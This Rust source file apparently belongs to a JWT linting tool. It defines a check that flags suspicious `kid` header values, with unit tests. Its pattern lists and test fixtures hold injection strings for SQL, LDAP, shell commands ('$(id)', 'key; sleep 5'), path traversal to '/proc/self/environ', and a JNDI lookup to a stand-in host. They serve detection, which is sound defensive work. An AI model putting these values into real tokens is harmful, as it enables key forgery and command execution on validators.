use super::address::starts_with;
use super::members::shown;
use super::{About, Check, Outcome};
use crate::finding::{Confidence, Place, Severity};
use crate::jose::Token;
use crate::text::has_word;

/// `kid` looks like an attack on whatever looks it up.
pub(super) static CHECK: Check = Check {
    code: "kid-suspicious",
    severity: Severity::Warning,
    confidence: Confidence::Likely,
    about: About::Token(run),
    title: "`kid` looks like {kind}: `{kid}`",
    why: "`kid` is what the sender wrote, and nobody has verified it when it is used to find the key. Put into a path, a query or a command, it chooses the key that the forger knows, or runs what the forger wants.",
    help: "see that the validator only compares `kid` with those of its keys, and refuses every other",
    see: "the row `kid`: the issuer's key set has no such name",
    source: "RFC 8725 §3.10; RFC 7515 §4.1.4",
};

/// Bytes that no identifier of a key has: the longest that are usual, ARNs and URLs of vaults, stay below.
const MAX: usize = 256;

const PATH: &str = "a path in a file system";
/// Where such paths begin, behind the first `/`.
const FOLDERS: &str = "dev etc home proc tmp var";

/// What it looks like, and the texts by which that shows; upper and lower case are the same. The first that fits is told.
/// Not among them is anything that may be in base64, in base64url, in a URN, a DID or an ARN.
static MARKS: [(&str, &[&str]); 6] = [
    (
        "a template or a lookup that is evaluated",
        &["${", "{{", "<%", "#{"],
    ),
    ("a URL", &["://"]),
    (PATH, &["../", "..\\", "..%", "%2e", "%2f", "%0", ":\\"]),
    (
        "a query in SQL",
        &["'", "\"", " union ", " select ", " or 1", ";--", "/*"],
    ),
    ("a filter of LDAP", &["*)", ")(", "(|", "(&"]),
    (
        "a command of a shell",
        &["|", ";", "`", "$(", "&", "<", ">"],
    ),
];

fn run(token: &Token) -> Outcome {
    let Some(kid) = token.header_parameter("kid").and_then(|kid| kid.as_str()) else {
        return Outcome::NotApplicable;
    };
    let Some(looks) = kind(kid) else {
        return Outcome::Passed;
    };
    CHECK.found(
        &[("kind", looks), ("kid", &shown(kid))],
        Place::Header("kid".to_owned()),
    )
}

/// What a `kid` looks like; `None` for an identifier.
fn kind(kid: &str) -> Option<&'static str> {
    if kid.len() > MAX {
        return Some("more than a name, beyond 256 bytes");
    }
    if kid.bytes().any(|byte| byte.is_ascii_control()) {
        return Some("text with control characters");
    }
    let lower = kid.to_ascii_lowercase();
    for (kind, marks) in &MARKS {
        if marks.iter().any(|mark| lower.contains(mark)) {
            return Some(kind);
        }
    }
    // `/` may begin base64, which has no dots.
    let is_path = starts_with(kid, "/") && kid.contains('.')
        || matches!(lower.strip_prefix('/').and_then(|path| path.split_once('/')), Some((folder, _)) if has_word(FOLDERS, folder));
    is_path.then_some(PATH)
}

#[cfg(test)]
mod tests {
    use super::super::testing::run;
    use super::{CHECK, kind};

    #[test]
    fn every_kind_of_attack_has_its_word() {
        for (kid, expected) in [
            ("../../../../dev/null", "path"),
            ("..\\keys\\a", "path"),
            ("/var/keys/a.pem", "path"),
            ("/proc/self/environ", "path"),
            ("C:\\keys\\a", "path"),
            ("%2e%2e%2fkey", "path"),
            ("x' UNION SELECT 'secret", "SQL"),
            ("1 OR 1=1", "SQL"),
            ("*)(uid=*", "LDAP"),
            ("|id", "shell"),
            ("key; sleep 5", "shell"),
            ("$(id)", "shell"),
            ("http://attacker.example/k", "URL"),
            ("${jndi:ldap://a.example/b}", "template"),
            ("{{7*7}}", "template"),
            ("a\nb", "control"),
            ("a\0", "control"),
        ] {
            assert!(kind(kid).unwrap_or_default().contains(expected), "{kid}");
        }
        assert!(kind(&"a".repeat(257)).is_some());
    }

    #[test]
    fn identifiers_of_every_issuer_pass() {
        for kid in [
            "",
            "k1",
            "Xq3vT8mB1hJtO0sWcYb5Zr7dLkE",
            "bilbo.baggins@hobbiton.example",
            "/aB3+x/Yz0123456789abcdefghijklmnopqrstuvwx=",
            "aB--cd__ef",
            "0d4c8f6a-2b1e-4c3d-9a8b-7c6d5e4f3a2b",
            "arn:aws:kms:eu-west-1:111122223333:key/0d4c8f6a-2b1e-4c3d-9a8b-7c6d5e4f3a2b",
            "did:example:123#key-1",
            "urn:ietf:params:oauth:jwk-thumbprint:sha-256:NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",
            "2024 signing key (old)",
            "key=1,version=2",
            "default.v2",
            "contoso/dev/etc/profile:1",
            &"a".repeat(256),
        ] {
            assert_eq!(kind(kid), None, "{kid}");
        }
        assert_eq!(run(&CHECK, r#"{"kid":5}"#, "{}", ""), ["not applicable"]);
        assert_eq!(
            run(&CHECK, r#"{"kid":"|id"}"#, "{}", ""),
            ["`kid` looks like a command of a shell: `|id`"]
        );
    }
}
